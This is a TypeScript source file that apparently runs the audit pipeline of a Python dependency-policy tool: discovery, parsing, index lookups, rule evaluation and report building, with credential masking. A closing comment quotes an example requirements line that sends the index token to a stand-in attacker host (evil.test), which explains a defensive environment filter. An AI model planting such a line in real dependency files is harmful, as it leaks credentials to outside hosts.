// The pipeline: discover -> parse -> model -> policy -> Report. Pure in the middle; the only I/O is reading the
// audited tree (and the policy file), so the CLI and the action run exactly the same audit.

import { posix } from "node:path";
import { realpath } from "./async-fs.js";
import {
	checkGlobsCompile,
	checkGlobsMatched,
	scopeGlob,
} from "./discover/audit-globs.js";
import {
	compareStrings,
	type DiscoveredFile,
	discoverFiles,
} from "./discover/discover-files.js";
import { groupProjects, type ParsedFile } from "./discover/group-projects.js";
import { mapConcurrently } from "./discover/map-concurrently.js";
import {
	type FileOutcome,
	parseDiscoveredFile,
} from "./discover/parse-discovered-file.js";
import {
	canUseParsePool,
	type ParsePoolOptions,
	parseInWorkers,
} from "./discover/parse-pool.js";
import { createRequirementsReader } from "./discover/resolve-requirements.js";
import {
	type GatherIndexOptions,
	gatherIndexFacts,
	startIndexSession,
} from "./index/gather-index-facts.js";
import {
	INDEX_TOKEN_ENV,
	maskSecrets,
	redactUrl,
} from "./index/index-endpoint.js";
import { collectPackageLinks } from "./index/package-links.js";
import { append } from "./model/append.js";
import type { Report, ReportPolicy } from "./model/report.js";
import type { Diagnostic, Finding, Project } from "./model/types.js";
import { evaluatePolicy } from "./policy/evaluate-policy.js";
import { applyInstallDeclarations } from "./policy/install-sets.js";
import { type LoadedPolicy, loadPolicy } from "./policy/load-policy.js";
import { createRequirementsNeed } from "./policy/requirements-needed.js";
import { listChecks } from "./report/list-checks.js";
import { clipExcerpt, maskCredentials } from "./report/mask-credentials.js";
import { TOOL_NAME, TOOL_VERSION } from "./version.js";

export interface AuditOptions {
	/** Directory to audit; paths in the report are relative to it. */
	root: string;
	/**
	 * Root-relative POSIX directory whose projects are audited ("." or absent: all); include/exclude globs are
	 * relative to it. The CLI sets it when the policy was found above the directory it was asked to audit.
	 */
	scope?: string;
	/** Directory requirements-file includes may not leave (default: root). */
	boundary?: string;
	include?: readonly string[];
	exclude?: readonly string[];
	/**
	 * Environment for `${VAR}` in requirements files (pip reads os.environ) and the index client's proxy settings.
	 * pin-audit's own credential variable is never expanded into a file's text.
	 */
	env?: Readonly<Record<string, string | undefined>>;
	/** Credential for the configured index (`indexUrl` or the policy's `index-url`) only. */
	indexToken?: string | null;
	/** Environment the index client reads its proxy settings from (HTTPS_PROXY, NO_PROXY); default: `env`. */
	networkEnv?: Readonly<Record<string, string | undefined>>;
	/** Policy file; relative paths are relative to root. Default: pin-audit.toml or [tool.pin-audit]. */
	policyPath?: string;
	/** The date exceptions' `until` is compared with. */
	today?: Date;
	/**
	 * Never contact a package index; checks that need one use locks and the shipped offline knowledge.
	 * Default: true here (a library call stays pure unless asked); the CLI and the action default to online.
	 */
	offline?: boolean;
	/** Package index to query (PyPI JSON API or a PEP 691 Simple API); default: the project's configured index, else PyPI. */
	indexUrl?: string;
	/** Directory for the on-disk index cache (keep it with actions/cache); none when unset. */
	cacheDir?: string;
	/** Requests in flight at once per index host; the policy's `index-concurrency` when absent. */
	indexConcurrency?: number;
	/**
	 * Parse files in worker threads (large trees only). Default: the `parse-worker.js` bundled next to this
	 * module, when it is there (not when running from sources); false: always in the main thread.
	 */
	parseWorkers?: ParsePoolOptions | false;
}

/** How many files are read and parsed at once. */
const READ_CONCURRENCY = 16;

export async function auditRepository(options: AuditOptions): Promise<Report> {
	// Globs and the policy first: a mistake in either is a configuration error, reported before any work is done.
	const scope = options.scope ?? ".";
	const globs = {
		include: options.include ?? [],
		exclude: options.exclude ?? [],
	};
	checkGlobsCompile(globs);
	const loaded = await loadPolicy(options.root, options.policyPath);
	const discovery = await discoverFiles(options.root, {
		include: globs.include.map((g) => scopeGlob(g, scope)),
		exclude: globs.exclude.map((g) => scopeGlob(g, scope)),
		scope,
	});
	checkGlobsMatched(globs, scope, discovery);
	const indexOptions = toIndexOptions(loaded, options);
	// Online, an index the run was given is asked of DNS while the tree is parsed.
	const session = startIndexSession(indexOptions, discovery.files.length > 0);
	const fileDiagnostics = new Map<string, Diagnostic[]>();
	const addDiagnostics = (file: string, diagnostics: readonly Diagnostic[]) => {
		if (diagnostics.length === 0) return;
		const list = fileDiagnostics.get(file) ?? [];
		append(list, diagnostics);
		fileDiagnostics.set(file, list);
	};

	const projects = groupProjects(
		discovery.files,
		await parseFiles(discovery.files, {
			rootReal: discovery.rootReal,
			boundaryReal:
				options.boundary === undefined
					? discovery.rootReal
					: await realpath(options.boundary),
			env: withoutCredential(options.env ?? {}),
			pool: options.parseWorkers,
			addDiagnostics,
		}),
		(file, diagnostic) => addDiagnostics(file, [diagnostic]),
	);
	// `[[install]]` globs are checked against what discovery found: a mistake is a configuration error.
	const partial =
		scope !== "." || globs.include.length > 0 || globs.exclude.length > 0;
	applyInstallDeclarations(projects, loaded.policy, { partial });
	const projectPaths = new Set(projects.map((p) => p.path));
	const findings: Finding[] = [
		...listDiscoveryFindings(discovery, projectPaths, options),
		...listFileFindings(fileDiagnostics, projectPaths),
	];

	// The only network I/O of an audit, all of it before evaluation, so the rules stay pure.
	const gathered = await gatherIndexFacts(projects, {
		...indexOptions,
		session,
	});
	const evaluated = evaluatePolicy(projects, loaded.policy, {
		today: options.today ?? new Date(),
		index: gathered.facts,
		partial,
	});
	// What files and discovery say quotes the repository: an excerpt at most (the rules' own messages are ours).
	for (const f of findings) f.message = clipExcerpt(f.message);
	append(findings, evaluated);
	// Defence in depth: no message may carry an index credential or anything shaped like one, whatever echoed it.
	for (const f of findings)
		f.message = maskSecrets(
			redactUrl(maskCredentials(f.message)),
			gathered.secrets,
		);
	findings.sort(compareFindings);
	const report = buildReport(
		options.root,
		toReportPolicy(loaded),
		projects,
		findings,
		discovery.files.length,
	);
	report.checks = listChecks(loaded.policy, gathered.facts);
	return { ...report, packageLinks: collectPackageLinks(gathered.facts) };
}

/** What the index facts are gathered with: only the requirements a rule will read, at the configured concurrency. */
function toIndexOptions(
	loaded: LoadedPolicy,
	options: AuditOptions,
): GatherIndexOptions {
	return {
		offline: options.offline ?? true,
		indexUrl: options.indexUrl ?? loaded.policy.indexUrl,
		cacheDir: options.cacheDir ?? null,
		env: options.networkEnv ?? options.env ?? {},
		token: options.indexToken ?? null,
		http: {
			concurrency: options.indexConcurrency ?? loaded.policy.indexConcurrency,
		},
		needsRequirements: createRequirementsNeed(loaded.policy),
	};
}

function toReportPolicy(loaded: LoadedPolicy): ReportPolicy {
	return {
		source: loaded.source.kind,
		file: loaded.source.file,
		presets: loaded.presets,
		description: loaded.description,
	};
}

/** What discovery could not follow, and an audit of nothing said as such. */
function listDiscoveryFindings(
	discovery: Awaited<ReturnType<typeof discoverFiles>>,
	projectPaths: ReadonlySet<string>,
	options: AuditOptions,
): Finding[] {
	const findings: Finding[] = [];
	for (const issue of discovery.issues) {
		findings.push({
			rule: issue.rule ?? "discovery",
			severity: issue.rule === "unauditable" ? "error" : issue.severity,
			project: nearestProject(issue.path, projectPaths),
			package: null,
			file: issue.path,
			line: null,
			message: issue.message,
		});
	}
	// Auditing nothing is not "all clear": a wrong root or a glob that matches nothing would look like one.
	if (discovery.files.length === 0)
		findings.push({
			rule: "discovery",
			severity: "warning",
			project: null,
			package: null,
			file: null,
			line: null,
			message: describeNoFiles(options),
		});
	return findings;
}

/** Each file's parse diagnostics as `invalid-file` findings, once per severity, line and message. */
function listFileFindings(
	fileDiagnostics: ReadonlyMap<string, readonly Diagnostic[]>,
	projectPaths: ReadonlySet<string>,
): Finding[] {
	const findings: Finding[] = [];
	for (const [file, diagnostics] of fileDiagnostics) {
		const seen = new Set<string>();
		for (const d of diagnostics) {
			const key = `${d.severity}\0${d.line}\0${d.message}`;
			if (seen.has(key)) continue;
			seen.add(key);
			findings.push({
				rule: d.rule ?? "invalid-file",
				severity: d.rule === "unauditable" ? "error" : d.severity,
				project: nearestProject(posix.dirname(file), projectPaths),
				package: null,
				file,
				line: d.line,
				message: d.message,
			});
		}
	}

	return findings;
}

/**
 * Reads and parses every file: in worker threads for large trees when the worker script is there, else (or
 * if a worker fails) in this thread, a few files at a time. Results are in `files` order either way.
 */
async function parseFiles(
	files: readonly DiscoveredFile[],
	options: {
		rootReal: string;
		boundaryReal: string;
		env: Readonly<Record<string, string | undefined>>;
		pool: ParsePoolOptions | false | undefined;
		addDiagnostics: (file: string, diagnostics: readonly Diagnostic[]) => void;
	},
): Promise<ParsedFile[]> {
	const pool =
		options.pool === false
			? undefined
			: (options.pool ?? {
					// Made when first read: only a tree large enough for the workers asks (the engine's URL is itself
					// made when first read, see scripts/build.mjs).
					get workerUrl() {
						return new URL("./parse-worker.js", import.meta.url);
					},
				});
	let outcomes: FileOutcome[] | null = null;
	if (canUseParsePool(pool, files.length)) {
		outcomes = await parseInWorkers(
			files,
			{
				rootReal: options.rootReal,
				boundaryReal: options.boundaryReal,
				env: options.env,
			},
			pool,
		).catch(() => null);
	}
	if (outcomes === null) {
		const reader = createRequirementsReader(
			options.rootReal,
			options.env,
			options.boundaryReal,
		);
		outcomes = await mapConcurrently(files, READ_CONCURRENCY, (file) =>
			parseDiscoveredFile(file, reader),
		);
	}
	const parsed: ParsedFile[] = [];
	for (const outcome of outcomes) {
		for (const [file, diagnostics] of outcome.diagnostics)
			options.addDiagnostics(file, diagnostics);
		if (outcome.parsed !== null) parsed.push(outcome.parsed);
	}
	return parsed;
}

function describeNoFiles(options: AuditOptions): string {
	const globs = [
		...(options.include ?? []).map((g) => `include ${JSON.stringify(g)}`),
		...(options.exclude ?? []).map((g) => `exclude ${JSON.stringify(g)}`),
	];
	return `no dependency files found under ${options.root}${globs.length > 0 ? ` (${globs.join(", ")})` : ""}`;
}

function nearestProject(
	path: string,
	projectPaths: ReadonlySet<string>,
): string | null {
	let dir = path === "" ? "." : path;
	for (;;) {
		if (projectPaths.has(dir)) return dir;
		if (dir === ".") return null;
		dir = posix.dirname(dir);
	}
}

const SEVERITY_ORDER = { error: 0, warning: 1, notice: 2 } as const;

export function compareFindings(a: Finding, b: Finding): number {
	return (
		SEVERITY_ORDER[a.severity] - SEVERITY_ORDER[b.severity] ||
		compareStrings(a.file ?? "", b.file ?? "") ||
		(a.line ?? 0) - (b.line ?? 0) ||
		compareStrings(a.rule, b.rule) ||
		compareStrings(a.package ?? "", b.package ?? "") ||
		compareStrings(a.message, b.message)
	);
}

export function buildReport(
	root: string,
	policy: ReportPolicy,
	projects: Project[],
	findings: Finding[],
	fileCount: number,
): Report {
	const count = (severity: Finding["severity"]) =>
		findings.filter((f) => f.severity === severity).length;
	return {
		schemaVersion: 1,
		tool: { name: TOOL_NAME, version: TOOL_VERSION },
		root,
		policy,
		projects,
		findings,
		summary: {
			projects: projects.length,
			files: fileCount,
			requirements: projects.reduce((n, p) => n + p.requirements.length, 0),
			locked: projects.reduce((n, p) => n + p.locked.length, 0),
			errors: count("error"),
			warnings: count("warning"),
			notices: count("notice"),
		},
	};
}

// A requirements file could otherwise write `--index-url https://evil.test/${PIN_AUDIT_INDEX_TOKEN}/simple`.
function withoutCredential(
	env: Readonly<Record<string, string | undefined>>,
): Readonly<Record<string, string | undefined>> {
	if (env[INDEX_TOKEN_ENV] === undefined) return env;
	const { [INDEX_TOKEN_ENV]: _credential, ...rest } = env;
	return rest;
}
